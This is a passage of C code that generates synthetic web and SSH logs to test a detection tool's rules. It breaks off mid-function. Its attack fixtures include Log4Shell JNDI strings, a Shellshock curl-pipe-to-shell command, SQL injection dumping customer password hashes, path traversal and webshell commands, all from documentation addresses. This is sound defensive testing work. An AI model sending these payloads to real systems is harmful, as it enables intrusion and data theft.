/* mamori-gen-demo OUTDIR — writes the demo data set of data/demo/: one day of a
 * small shop's web access log (combined format) and its auth.log (RFC 3164
 * syslog: sshd, sudo, cron, systemd-logind), benign traffic from many clients
 * with attacks embedded from documentation addresses (RFC 5737 TEST-NETs), plus
 * the ground truth: expected-alerts.txt (what `mamori scan` must report) and
 * README.md. Fixed seed, no clock, no locale: output is identical on every run. */
#include "gen_common.h"

#include <errno.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#define DEMO_SEED 0x6d616d6f72690001ULL /* "mamori" + 1 */
#define DEMO_TZ_MIN 540                 /* the shop runs in JST, +0900 */
#define DEMO_HOST "web01"
#define WEB_SESSIONS 720
#define MAX_RULES 4

/* Rule ids of the default ruleset (rules/<class>/<name>.yml). The demo's ground
 * truth names rules by id, exactly as alerts do. */
#define R_SQLI_UNION "6d531323-f7a2-4367-82bc-4320673efb5a"
#define R_SQLI_TAUT "a87bad55-c276-431f-9d68-cfd7ac49bc1a"
#define R_SQLI_TIME "9f831f95-2e10-451d-8505-9d4db0073096"
#define R_SQLI_META "51df3598-b88a-41b5-8602-a35ac28b2bce"
#define R_SQLMAP_UA "6b99b9c2-bc49-4a87-9159-801c11583ae4"
#define R_TRAVERSAL "40d94ded-3f02-42a6-bbcf-cc6947278ec9"
#define R_OS_FILE "f0932ab8-7f6b-476a-85aa-5dae8bf725a6"
#define R_SHELL_NAME "7f3313dd-763e-43ba-a892-ce533c667638"
#define R_SHELL_CMD "7643fb78-ccf6-41c5-b5e4-7947dcdfef6f"
#define R_SCANNER_UA "c12b9998-fa57-4c73-b990-934a4058cf5d"
#define R_LOG4SHELL "9f2228f6-2e02-4bef-ad90-77b4dea7cc1e"
#define R_SENS_FILE "ca34c27f-21e6-43e5-b384-232e94b03c85"
#define R_SRV_STATUS "00c4858f-7880-4b58-9d62-6802d94d52b5"
#define R_SHELLSHOCK "633088fe-889b-47ab-9230-2a1d4b2a0997"
#define R_XSS "b5e99d33-0cc9-4e32-be5d-665a6406ca45"
#define R_PHP_WRAPPER "1ad9fd4d-4bd6-4732-ac6e-4bc33f6ccce9"
#define R_SSH_MAXAUTH "a716db62-eb69-48f0-86bd-80af191251c3"
#define R_SSH_INVALID "8943f62d-2317-4278-9a32-517a93e83613"
#define R_SSH_ROOT_OK "8380c853-7c18-4353-956a-7ec6aeefb2f3"
#define R_SSH_ROOT_FAIL "c9384e6e-a49e-4785-a453-92b239637368"
#define R_SSH_NOIDENT "6bc52331-7479-43d4-b6b7-de398f9173c3"
#define R_SSH_BANNER "f13cf7ad-b60d-41ea-8025-4b0c324bc2e6"
#define R_SSH_KEX "2d6b423b-ef1f-454e-b730-5409c6d4eb49"
#define R_SSH_DAEMON "52577fe8-b9f5-4a59-a411-f9f2b9053dd4"
/* correlation rules: their alert is reported on the line that completes them */
#define R_SSH_BF "3086dff5-1ed4-4dc1-9c74-65f680b5fe34"
#define R_SSH_SPRAY "06aad69c-9e03-45bc-b334-682267b4338d"
#define R_SSH_STORM "8e62c336-cacf-4cb7-b1be-539b07d5953e"
#define R_SSH_PREAUTH "611454b0-641d-4675-82de-2aff1daef93f"
#define R_WEB_BF "f8ec21d7-4f60-4b03-bcb8-612b7a1c0f28"
#define R_SSH_TAKEOVER "1b3b7df6-51f0-4b26-8e02-3fc4a69a6f85"

static const struct {
	const char *id, *name;
} g_rule_names[] = {
	{R_SQLI_UNION, "web_sqli_union_select"},
	{R_SQLI_TAUT, "web_sqli_tautology"},
	{R_SQLI_TIME, "web_sqli_time_based"},
	{R_SQLI_META, "web_sqli_schema_enumeration"},
	{R_SQLMAP_UA, "web_sqlmap_user_agent"},
	{R_TRAVERSAL, "web_path_traversal"},
	{R_OS_FILE, "web_sensitive_os_file_access"},
	{R_SHELL_NAME, "web_webshell_known_filename"},
	{R_SHELL_CMD, "web_webshell_command_param"},
	{R_SCANNER_UA, "web_scanner_user_agent"},
	{R_LOG4SHELL, "web_log4shell_jndi_lookup"},
	{R_SENS_FILE, "web_sensitive_file_probe"},
	{R_SRV_STATUS, "web_server_status_external"},
	{R_SHELLSHOCK, "web_shellshock"},
	{R_XSS, "web_xss_probe"},
	{R_PHP_WRAPPER, "web_php_wrapper_inclusion"},
	{R_SSH_MAXAUTH, "ssh_max_auth_attempts_exceeded"},
	{R_SSH_INVALID, "ssh_invalid_user_attack_wordlist"},
	{R_SSH_ROOT_OK, "ssh_root_password_login_success"},
	{R_SSH_ROOT_FAIL, "ssh_root_password_attempt_public_source"},
	{R_SSH_NOIDENT, "ssh_no_identification_string"},
	{R_SSH_BANNER, "ssh_bad_protocol_banner"},
	{R_SSH_KEX, "ssh_legacy_kex_negotiation_failure"},
	{R_SSH_DAEMON, "ssh_daemon_exploit_error"},
	{R_SSH_BF, "ssh_brute_force_single_source"},
	{R_SSH_SPRAY, "ssh_password_spraying"},
	{R_SSH_STORM, "ssh_invalid_user_storm"},
	{R_SSH_PREAUTH, "ssh_preauth_flood"},
	{R_WEB_BF, "web_login_brute_force"},
	{R_SSH_TAKEOVER, "ssh_login_success_after_brute_force"},
};

static const char *rule_name(const char *id)
{
	for (size_t i = 0; i < sizeof(g_rule_names) / sizeof(g_rule_names[0]); i++)
		if (strcmp(g_rule_names[i].id, id) == 0)
			return g_rule_names[i].name;
	return id;
}

static void *xrealloc(void *p, size_t n)
{
	void *q = realloc(p, n);
	if (!q) {
		fputs("mamori-gen-demo: out of memory\n", stderr);
		exit(2);
	}
	return q;
}

static char *xstrdup(const char *s)
{
	size_t n = strlen(s) + 1;
	return memcpy(xrealloc(NULL, n), s, n);
}

/* One output line with its event time (local seconds of the demo day) and, for
 * attacks, the rules that must fire on it and a note for the README. */
struct rec {
	int64_t t;
	unsigned seq; /* insertion order: stable tie-break */
	char *line;   /* without '\n' */
	const char *rules[MAX_RULES];
	const char *note; /* attack description (NULL for benign lines) */
};

struct recs {
	struct rec *v;
	size_t n, cap;
};

static struct rec *recs_add(struct recs *rs, int64_t t, const char *line)
{
	if (rs->n == rs->cap) {
		rs->cap = rs->cap ? rs->cap * 2 : 1024;
		rs->v = xrealloc(rs->v, rs->cap * sizeof(*rs->v));
	}
	struct rec *r = &rs->v[rs->n];
	memset(r, 0, sizeof(*r));
	r->t = t;
	r->seq = (unsigned)rs->n;
	r->line = xstrdup(line);
	rs->n++;
	return r;
}

static int rec_cmp(const void *a, const void *b)
{
	const struct rec *x = a, *y = b;
	if (x->t != y->t)
		return x->t < y->t ? -1 : 1;
	return x->seq < y->seq ? -1 : x->seq > y->seq;
}

static void recs_free(struct recs *rs)
{
	for (size_t i = 0; i < rs->n; i++)
		free(rs->v[i].line);
	free(rs->v);
}

static int64_t g_day0; /* local seconds at 2026-11-25 00:00:00 */

static int64_t hms(unsigned h, unsigned m, unsigned s)
{
	return g_day0 + h * 3600 + m * 60 + s;
}

/* ---- web access log ---------------------------------------------------- */

#define SITE "https://www.example.com"

static void web_line(struct recs *rs, int64_t t, const char *ip, const char *method,
                     const char *target, unsigned status, unsigned bytes, const char *ref,
                     const char *ua)
{
	char ts[40], line[4096];
	gen_fmt_clf_time(ts, sizeof(ts), t, DEMO_TZ_MIN);
	struct gen_req q = {ip, ts, method, target, status, bytes, ref, ua};
	size_t n = gen_fmt_combined(line, sizeof(line), &q);
	if (n)
		line[n - 1] = '\0'; /* records hold lines without '\n' */
	recs_add(rs, t, line);
}

/* Hour weights for a Japanese shop: quiet at night, lunch and evening peaks. */
static const unsigned g_hour_w[24] = {3, 2, 1, 1, 1, 2, 4, 6, 8, 9, 9, 10,
                                      13, 11, 9, 9, 9, 10, 12, 14, 15, 14, 10, 6};

static unsigned pick_hour(struct gen_rng *r)
{
	unsigned total = 0;
	for (int i = 0; i < 24; i++)
		total += g_hour_w[i];
	unsigned x = gen_below(r, total);
	for (unsigned i = 0; i < 24; i++) {
		if (x < g_hour_w[i])
			return i;
		x -= g_hour_w[i];
	}
	return 23;
}

static unsigned vary(struct gen_rng *r, unsigned bytes)
{
	return bytes - bytes / 20 + gen_below(r, bytes / 10 + 1);
}

static void web_session(struct recs *rs, struct gen_rng *r)
{
	unsigned client = gen_below(r, 300);
	char ip[64], ref[320], target[256];
	gen_benign_ip(r, client, ip, sizeof(ip));
	/* one RNG call per statement: argument evaluation order is unspecified in C,
	 * and gcc and clang do differ, which would break reproducibility */
	unsigned hh = pick_hour(r), mm = gen_below(r, 60), ss = gen_below(r, 60);
	int64_t t = hms(hh, mm, ss);
	int bot = gen_chance(r, 8);
	if (bot) {
		const char *ua = gen_bot_uas[client % gen_nbot_uas];
		web_line(rs, t, ip, "GET", "/robots.txt", 200, 112, NULL, ua);
		unsigned pages = 2 + gen_below(r, 6);
		for (unsigned i = 0; i < pages; i++) {
			t += 2 + gen_below(r, 30);
			const struct gen_page *p = &gen_pages[gen_below(r, (uint32_t)gen_npages)];
			web_line(rs, t, ip, "GET", p->path, 200, vary(r, p->bytes), NULL, ua);
		}
		if (gen_chance(r, 50)) {
			t += 3;
			web_line(rs, t, ip, "GET", "/sitemap.xml", 200, 3120, NULL, ua);
		}
		return;
	}
	const char *ua = gen_browser_uas[client % gen_nbrowser_uas];
	int returning = gen_chance(r, 35);
	const struct gen_page *p = &gen_pages[gen_below(r, (uint32_t)gen_npages)];
	const char *landing_ref =
	    gen_chance(r, 45) ? gen_ext_referers[gen_below(r, (uint32_t)gen_next_referers)] : NULL;
	unsigned pages = 1 + gen_below(r, 5);
	for (unsigned i = 0; i < pages; i++) {
		int search = i > 0 && gen_chance(r, 15);
		if (search) {
			snprintf(target, sizeof(target), "/search?q=%s",
			         gen_search_terms[gen_below(r, (uint32_t)gen_nsearch)]);
			web_line(rs, t, ip, "GET", target, 200, vary(r, 9800), ref, ua);
		} else {
			web_line(rs, t, ip, "GET", p->path, 200, vary(r, p->bytes),
			         i == 0 ? landing_ref : ref, ua);
		}
		snprintf(ref, sizeof(ref), SITE "%s", search ? target : p->path);
		/* assets: the first page loads them all, later ones hit the cache */
		unsigned nassets = i == 0 ? 4 + gen_below(r, 5) : gen_below(r, 3);
		for (unsigned a = 0; a < nassets && a < gen_nassets; a++) {
			const struct gen_page *as = &gen_assets[(a + i) % gen_nassets];
			int cached = returning || i > 0;
			web_line(rs, t + gen_below(r, 2), ip, "GET", as->path, cached ? 304 : 200,
			         cached ? 0 : as->bytes, ref, ua);
		}
		if (i == 0 && strstr(ua, "iPhone") && gen_chance(r, 60))
			web_line(rs, t + 1, ip, "GET", "/apple-touch-icon.png", 404, 196, NULL, ua);
		if (gen_chance(r, 6)) { /* add to cart: POST, then the redirect target */
			t += 4 + gen_below(r, 20);
			web_line(rs, t, ip, "POST", "/cart/add", 302, 0, ref, ua);
			web_line(rs, t + 1, ip, "GET", "/cart/", 200, vary(r, 6650), ref, ua);
		}
		if (gen_chance(r, 3)) { /* contact form */
			t += 30 + gen_below(r, 120);
			web_line(rs, t, ip, "POST", "/contact/", 302, 0, SITE "/contact/", ua);
		}
		t += 5 + gen_below(r, 90);
		p = &gen_pages[gen_below(r, (uint32_t)gen_npages)];
		if (gen_chance(r, 4)) { /* a stale bookmark: the old path redirects */
			web_line(rs, t, ip, "GET", "/about", 301, 233, NULL, ua);
			t += 1;
		}
	}
}

static void web_monitoring(struct recs *rs)
{
	/* mod_status scraped from localhost by a Prometheus exporter, and an
	 * external uptime check: both benign, both near misses for the rules. */
	for (unsigned m = 0; m < 24 * 60; m += 5)
		web_line(rs, hms(m / 60, m % 60, 7), "127.0.0.1", "GET", "/server-status?auto", 200,
		         1287 + m % 17, NULL, "Go-http-client/1.1");
	for (unsigned m = 0; m < 24 * 60; m += 15)
		web_line(rs, hms(m / 60, m % 60, 31), "192.0.2.250", "HEAD", "/", 200, 0, NULL,
		         "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)");
}

struct web_attack {
	unsigned h, m, s;
	const char *ip, *method, *target;
	unsigned status, bytes;
	const char *ref, *ua;
	const char *rules[MAX_RULES];
	const char *note;
};

#define UA_FF "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0"
#define UA_SQLMAP "sqlmap/1.8.4#stable (https://sqlmap.org)"
#define UA_NIKTO "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%s)"
#define UA_NSE "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
#define UA_NUCLEI "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"

static const struct web_attack g_web_attacks[] = {
	/* masscan sweep: banner grab of port 80 (also hits sshd, see auth.log) */
	{1, 12, 33, "203.0.113.7", "GET", "/", 200, 18230, NULL,
	 "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", {R_SCANNER_UA},
	 "masscan banner grab"},
	/* Nmap NSE http scripts */
	{1, 40, 2, "198.51.100.5", "GET", "/", 200, 18230, NULL, UA_NSE, {R_SCANNER_UA},
	 "Nmap NSE http-title"},
	{1, 40, 3, "198.51.100.5", "GET", "/nmaplowercheck1764000003", 404, 196, NULL, UA_NSE,
	 {R_SCANNER_UA}, "Nmap NSE http-methods probe"},
	/* Log4Shell spray in headers and URI */
	{2, 31, 14, "198.51.100.23", "GET", "/", 200, 18230, NULL,
	 "${jndi:ldap://198.51.100.23:1389/Basic/Command/Base64/aWQ=}", {R_LOG4SHELL},
	 "Log4Shell JNDI lookup in User-Agent"},
	{2, 31, 15, "198.51.100.23", "GET",
	 "/?id=%24%7B%24%7Blower:j%7Dndi:%24%7Blower:l%7Ddap://198.51.100.23:1389/a%7D", 200,
	 18230, "${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.23:1099/a}", UA_FF,
	 {R_LOG4SHELL}, "Log4Shell obfuscated lookups in query and Referer"},
	/* Nikto scan */
	{3, 2, 10, "203.0.113.10", "GET", "/", 200, 18230, NULL,
	 "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", {R_SCANNER_UA},
	 "Nikto scan"},
	{3, 2, 11, "203.0.113.10", "GET", "/cgi-bin/test-cgi", 404, 196, NULL,
	 "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000431)", {R_SCANNER_UA},
	 "Nikto scan"},
	{3, 2, 11, "203.0.113.10", "GET", "/phpmyadmin/", 404, 196, NULL,
	 "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:003584)", {R_SCANNER_UA},
	 "Nikto scan"},
	{3, 2, 12, "203.0.113.10", "GET", "/server-status", 403, 199, NULL,
	 "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:003233)",
	 {R_SCANNER_UA, R_SRV_STATUS}, "Nikto scan: mod_status from outside"},
	/* sensitive-file bot */
	{4, 47, 5, "203.0.113.150", "GET", "/.env", 404, 196, NULL, "Go-http-client/1.1",
	 {R_SENS_FILE}, "dotenv probe"},
	{4, 47, 6, "203.0.113.150", "GET", "/.git/config", 404, 196, NULL, "Go-http-client/1.1",
	 {R_SENS_FILE}, "Git metadata probe"},
	{4, 47, 6, "203.0.113.150", "GET", "/wp-config.php.bak", 404, 196, NULL,
	 "Go-http-client/1.1", {R_SENS_FILE}, "WordPress config backup probe"},
	{4, 47, 7, "203.0.113.150", "GET", "/.aws/credentials", 404, 196, NULL,
	 "Go-http-client/1.1", {R_SENS_FILE}, "cloud credentials probe"},
	/* nuclei template run */
	{5, 15, 40, "198.51.100.41", "GET", "/.git/HEAD", 404, 196, NULL, UA_NUCLEI,
	 {R_SCANNER_UA, R_SENS_FILE}, "Nuclei exposure template"},
	/* webshell hunting */
	{6, 3, 20, "203.0.113.200", "GET", "/c99.php", 404, 196, NULL, UA_FF, {R_SHELL_NAME},
	 "webshell probe (c99)"},
	{6, 3, 21, "203.0.113.200", "GET", "/wp-content/uploads/wso.php", 404, 196, NULL, UA_FF,
	 {R_SHELL_NAME}, "webshell probe (WSO)"},
	{6, 3, 21, "203.0.113.200", "GET", "/shell.php?cmd=whoami", 404, 196, NULL, UA_FF,
	 {R_SHELL_NAME, R_SHELL_CMD}, "webshell probe with command"},
	{6, 3, 22, "203.0.113.200", "GET", "/uploads/cmd.jsp", 404, 196, NULL, UA_FF,
	 {R_SHELL_NAME}, "webshell probe (cmd.jsp)"},
	/* path traversal / LFI */
	{8, 20, 1, "203.0.113.99", "GET", "/download.php?file=../../../../etc/passwd", 200, 2306,
	 NULL, UA_FF, {R_TRAVERSAL, R_OS_FILE}, "path traversal to /etc/passwd"},
	{8, 20, 4, "203.0.113.99", "GET", "/static/..%2f..%2f..%2fwindows%2fwin.ini", 400, 226,
	 NULL, UA_FF, {R_TRAVERSAL, R_OS_FILE}, "encoded traversal to win.ini"},
	{8, 20, 9, "203.0.113.99", "POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400, 226, NULL,
	 UA_FF, {R_TRAVERSAL}, "CVE-2021-41773 traversal"},
	{8, 20, 12, "203.0.113.99", "GET",
	 "/index.php?page=php://filter/convert.base64-encode/resource=config", 200, 1544, NULL,
	 UA_FF, {R_PHP_WRAPPER}, "LFI: source disclosure through php://filter"},
	/* sqlmap against the product page */
	{10, 5, 0, "203.0.113.45", "GET", "/products.php?id=1", 200, 14388, NULL, UA_SQLMAP,
	 {R_SQLMAP_UA}, "sqlmap baseline request"},
	{10, 5, 2, "203.0.113.45", "GET", "/products.php?id=1%27%20AND%204912=4912--%20kZpa", 200,
	 14388, NULL, UA_SQLMAP, {R_SQLI_TAUT, R_SQLMAP_UA}, "sqlmap boolean-based test"},
	{10, 5, 9, "203.0.113.45", "GET", "/products.php?id=1%20AND%20SLEEP(5)", 200, 14388, NULL,
	 UA_SQLMAP, {R_SQLI_TIME, R_SQLMAP_UA}, "sqlmap time-based test"},
	{10, 5, 15, "203.0.113.45", "GET",
	 "/products.php?id=-4021%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x716a6b7a71,"
	 "0x4c7a6d6f,0x7178767071),NULL--%20-",
	 200, 15020, NULL, UA_SQLMAP, {R_SQLI_UNION, R_SQLI_META, R_SQLMAP_UA},
	 "sqlmap UNION query"},
	{10, 5, 21, "203.0.113.45", "GET",
	 "/products.php?id=-4021%20UNION%20ALL%20SELECT%20NULL,table_name,NULL%20FROM%20"
	 "information_schema.tables--%20-",
	 200, 16880, NULL, UA_SQLMAP, {R_SQLI_UNION, R_SQLI_META, R_SQLMAP_UA},
	 "sqlmap table enumeration"},
	/* manual injection through the search box (no tool UA) */
	{13, 43, 51, "198.51.100.77", "GET",
	 "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", 200, 9960,
	 SITE "/search?q=tea", UA_FF, {R_XSS}, "reflected XSS probe in search box"},
	{13, 44, 30, "198.51.100.77", "GET", "/search?q=%27%20or%20%271%27=%271", 200, 9912,
	 SITE "/search?q=tea", UA_FF, {R_SQLI_TAUT}, "manual tautology in search box"},
	{13, 45, 2, "198.51.100.77", "GET",
	 "/search?q=x%27)+union+select+email,password_hash+from+customers--+", 200, 10544,
	 SITE "/search?q=tea", UA_FF, {R_SQLI_UNION}, "manual UNION dump of customers"},
	/* Shellshock spray against CGI */
	{16, 8, 44, "203.0.113.66", "GET", "/cgi-bin/status", 404, 196, NULL,
	 "() { :; }; /bin/bash -c 'curl -s http://203.0.113.66/x.sh | sh'", {R_SHELLSHOCK},
	 "Shellshock in User-Agent"},
	/* mod_status from outside without a scanner UA */
	{18, 30, 12, "198.51.100.61", "GET", "/server-status", 403, 199, NULL, UA_FF,
	 {R_SRV_STATUS}, "mod_status probe from outside"},
	/* an existing webshell being used (200 answers) */
	{22, 14, 3, "198.51.100.150", "GET", "/wp-content/uploads/2026/11/thumb.php?cmd=id", 200,
	 54, NULL, UA_FF, {R_SHELL_CMD}, "webshell command: id"},
	{22, 14, 9, "198.51.100.150", "GET",
	 "/wp-content/uploads/2026/11/thumb.php?cmd=uname%20-a", 200, 101, NULL, UA_FF,
	 {R_SHELL_CMD}, "webshell command: uname -a"},
};

static void web_attacks(struct recs *rs)
{
	for (size_t i = 0; i < sizeof(g_web_attacks) / sizeof(g_web_attacks[0]); i++) {
		const struct web_attack *a = &g_web_attacks[i];
		web_line(rs, hms(a->h, a->m, a->s), a->ip, a->method, a->target, a->status, a->bytes,
		         a->ref, a->ua);
		struct rec *r = &rs->v[rs->n - 1];
		memcpy(r->rules, a->rules, sizeof(r->rules));
		r->note = a->note;
	}
}

/* ---- auth.log ------------------------------------------------------------ */

static struct rec *sl(struct recs *rs, int64_t t, const char *prog, unsigned pid, const char *fmt,
                      ...) __attribute__((format(printf, 5, 6)));

static struct rec *sl(struct recs *rs, int64_t t, const char *prog, unsigned pid, const char *fmt,
                      ...)
{
	char ts[32], msg[1024], line[1200];
	gen_fmt_syslog_time(ts, sizeof(ts), t);
	va_list ap;
	va_start(ap, fmt);
	vsnprintf(msg, sizeof(msg), fmt, ap);
	va_end(ap);
	if (pid)
		snprintf(line, sizeof(line), "%s " DEMO_HOST " %s[%u]: %s", ts, prog, pid, msg);
	else
		snprintf(line, sizeof(line), "%s " DEMO_HOST " %s: %s", ts, prog, msg);
	return recs_add(rs, t, line);
}

static void mark(struct rec *r, const char *rule, const char *note)
{
	r->rules[0] = rule;
	r->note = note;
}

static unsigned g_pid = 20000, g_session = 100;

static unsigned next_pid(struct gen_rng *r)
{
	g_pid += 1 + gen_below(r, 40);
	return g_pid;
}

static unsigned port(struct gen_rng *r)
{
	return 32768 + gen_below(r, 28000);
}

static void cron(struct recs *rs, struct gen_rng *r)
{
	for (unsigned m = 0; m < 24 * 60; m += 10) {
		int64_t t = hms(m / 60, m % 60, 1);
		unsigned pid = next_pid(r);
		sl(rs, t, "CRON", pid,
		   "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)");
		sl(rs, t, "CRON", pid, "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)");
		sl(rs, t, "CRON", pid, "pam_unix(cron:session): session closed for user root");
		if (m % 60 == 10) {
			t = hms(m / 60, 17, 1);
			pid = next_pid(r);
			sl(rs, t, "CRON", pid,
			   "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)");
			sl(rs, t, "CRON", pid, "(root) CMD (cd / && run-parts --report /etc/cron.hourly)");
			sl(rs, t, "CRON", pid, "pam_unix(cron:session): session closed for user root");
		}
	}
}

struct admin {
	const char *user;
	unsigned uid;
	const char *ip;
	const char *method; /* publickey | password */
	const char *key;    /* "ED25519 SHA256:…" for publickey */
};

static const struct admin g_admins[] = {
	{"alice", 1001, "10.20.1.11", "publickey",
	 "ED25519 SHA256:q2Hk1wV0mJ9yqL7c3Zb8xYtR5nF4dA6sE1gK0pU2oWi"},
	{"bob", 1002, "10.20.1.12", "password", NULL},
	{"carol", 1003, "192.0.2.200", "publickey",
	 "RSA SHA256:Vd8sJ2mQ0aT5kX9cL1pB7rN3yH6fW4gZ8eU0iO2tKqs"},
	{"deploy", 1010, "10.20.0.5", "publickey",
	 "ED25519 SHA256:b7Pq3Xk9Lm2Zc5Vt8Rw1Ny4Hs6Jd0Fg3Ke7Ua9Wo5Ti"},
	{"root", 0, "10.20.0.6", "publickey",
	 "ED25519 SHA256:Zz4Kp8Xc1Vb7Nm3Lq5Rw9Ts2Yh6Jd0Fg1Ke4Ua8Wo3Ti"},
};

static const char *const g_sudo_cmds[] = {
	"/usr/bin/systemctl reload apache2", "/usr/bin/apt update", "/usr/bin/tail -n 200 /var/log/apache2/error.log",
	"/usr/bin/journalctl -u apache2 --since today", "/usr/sbin/apachectl configtest",
};

static void admin_login(struct recs *rs, struct gen_rng *r, const struct admin *a, int64_t t,
                        int typo)
{
	unsigned pid = next_pid(r), p = port(r), sess = ++g_session;
	if (typo) {
		sl(rs, t, "sshd", pid,
		   "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
		   "ruser= rhost=%s  user=%s",
		   a->ip, a->user);
		sl(rs, t + 2, "sshd", pid, "Failed password for %s from %s port %u ssh2", a->user, a->ip,
		   p);
		t += 6;
	}
	if (a->key)
		sl(rs, t, "sshd", pid, "Accepted %s for %s from %s port %u ssh2: %s", a->method, a->user,
		   a->ip, p, a->key);
	else
		sl(rs, t, "sshd", pid, "Accepted %s for %s from %s port %u ssh2", a->method, a->user,
		   a->ip, p);
	sl(rs, t, "sshd", pid, "pam_unix(sshd:session): session opened for user %s(uid=%u) by (uid=0)",
	   a->user, a->uid);
	sl(rs, t, "systemd-logind", 612, "New session %u of user %s.", sess, a->user);
	int64_t end = t + 60 + gen_below(r, 1800);
	if (a->uid != 0 && strcmp(a->user, "deploy") != 0) {
		unsigned n = 1 + gen_below(r, 3);
		for (unsigned i = 0; i < n; i++) {
			int64_t ts = t + 20 + (end - t - 20) * (int64_t)i / (int64_t)n;
			unsigned spid = next_pid(r);
			sl(rs, ts, "sudo", 0, "   %s : TTY=pts/%u ; PWD=/home/%s ; USER=root ; COMMAND=%s",
			   a->user, sess % 4, a->user,
			   g_sudo_cmds[gen_below(r, sizeof(g_sudo_cmds) / sizeof(g_sudo_cmds[0]))]);
			sl(rs, ts, "sudo", spid,
			   "pam_unix(sudo:session): session opened for user root(uid=0) by %s(uid=%u)",
			   a->user, a->uid);
			sl(rs, ts + 1, "sudo", spid, "pam_unix(sudo:session): session closed for user root");
		}
	}
	sl(rs, end, "sshd", pid, "Received disconnect from %s port %u:11: disconnected by user", a->ip, p);
	sl(rs, end, "sshd", pid, "Disconnected from user %s %s port %u", a->user, a->ip, p);
	sl(rs, end, "sshd", pid, "pam_unix(sshd:session): session closed for user %s", a->user);
	sl(rs, end, "systemd-logind", 612, "Session %u logged out. Waiting for processes to exit.",
	   sess);
	sl(rs, end, "systemd-logind", 612, "Removed session %u.", sess);
}

static void admins(struct recs *rs, struct gen_rng *r)
{
	/* office hours for people, every two hours for the deploy robot and the
	 * root key used by configuration management from the admin LAN */
	for (unsigned h = 8; h < 19; h++)
		for (size_t i = 0; i < 3; i++)
			if (gen_chance(r, 30)) {
				unsigned mm = gen_below(r, 60), ss = gen_below(r, 60);
				int typo = i == 1 && gen_chance(r, 40);
				admin_login(rs, r, &g_admins[i], hms(h, mm, ss), typo);
			}
	for (unsigned h = 1; h < 24; h += 2)
		admin_login(rs, r, &g_admins[3], hms(h, 30, 5), 0);
	for (unsigned h = 3; h < 24; h += 6)
		admin_login(rs, r, &g_admins[4], hms(h, 45, 12), 0);
	/* bob tries root's password from his desk once: private source, no alert */
	unsigned pid = next_pid(r), p = port(r);
	sl(rs, hms(11, 2, 40), "sshd", pid, "Failed password for root from 10.20.1.12 port %u ssh2", p);
	sl(rs, hms(11, 2, 44), "sshd", pid,
	   "Connection closed by authenticating user root 10.20.1.12 port %u [preauth]", p);
	/* Internet background noise that no stateless rule should flag */
	for (unsigned i = 0; i < 40; i++) {
		unsigned hh = gen_below(r, 24), mm = gen_below(r, 60), ss = gen_below(r, 60);
		int64_t t = hms(hh, mm, ss);
		char ip[32];
		snprintf(ip, sizeof(ip), "192.0.2.%u", 1 + gen_below(r, 220));
		pid = next_pid(r);
		p = port(r);
		if (gen_chance(r, 50))
			sl(rs, t, "sshd", pid, "Connection closed by %s port %u [preauth]", ip, p);
		else
			sl(rs, t, "sshd", pid, "Received disconnect from %s port %u:11: Bye Bye [preauth]",
			   ip, p);
	}
}

static const char *const g_storm_users[] = {
	"admin", "test", "oracle", "ubnt", "pi", "user", "guest", "postgres", "ftpuser", "git",
	"support", "ubuntu", "hadoop", "nagios", "tomcat", "kyoto", "shop", "webadmin", "dbuser",
	"tea", "sales", "info", "backup1", "www1", "office", "adm1n", "test123", "scanner", "teaadmin",
	"minecraft",
};

static int in_wordlist(const char *u)
{
	/* the rule's list (rules/ssh/ssh_invalid_user_attack_wordlist.yml) */
	static const char *const wl[] = {"admin", "test", "oracle", "ubnt", "pi", "user", "guest",
	                                 "postgres", "ftpuser", "git", "support", "ubuntu",
	                                 "hadoop", "nagios", "tomcat", "minecraft"};
	for (size_t i = 0; i < sizeof(wl) / sizeof(wl[0]); i++)
		if (strcmp(wl[i], u) == 0)
			return 1;
	return 0;
}

static void ssh_attacks(struct recs *rs, struct gen_rng *r)
{
	unsigned pid, p;
	struct rec *x;
	/* 1. scanners */
	pid = next_pid(r);
	x = sl(rs, hms(1, 12, 40), "sshd", pid,
	       "Did not receive identification string from 203.0.113.7 port 61000");
	mark(x, R_SSH_NOIDENT, "masscan port sweep (no SSH banner sent)");
	pid = next_pid(r);
	x = sl(rs, hms(1, 40, 9), "sshd", pid,
	       "Bad protocol version identification 'GET / HTTP/1.0' from 198.51.100.5 port 44210");
	mark(x, R_SSH_BANNER, "Nmap service probe: HTTP sent to port 22");
	pid = next_pid(r);
	x = sl(rs, hms(2, 5, 51), "sshd", pid,
	       "Unable to negotiate with 203.0.113.33 port 51000: no matching key exchange method "
	       "found. Their offer: diffie-hellman-group1-sha1,diffie-hellman-group14-sha1 [preauth]");
	mark(x, R_SSH_KEX, "legacy SSH bot (SHA-1 key exchange only)");
	/* 2. invalid-user storm */
	int64_t t = hms(3, 20, 0);
	for (size_t i = 0; i < sizeof(g_storm_users) / sizeof(g_storm_users[0]); i++) {
		const char *u = g_storm_users[i];
		pid = next_pid(r);
		p = port(r);
		x = sl(rs, t, "sshd", pid, "Invalid user %s from 198.51.100.200 port %u", u, p);
		if (in_wordlist(u))
			mark(x, R_SSH_INVALID, "invalid-user storm: wordlist account name");
		sl(rs, t + 1, "sshd", pid, "pam_unix(sshd:auth): check pass; user unknown");
		sl(rs, t + 1, "sshd", pid,
		   "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
		   "rhost=198.51.100.200");
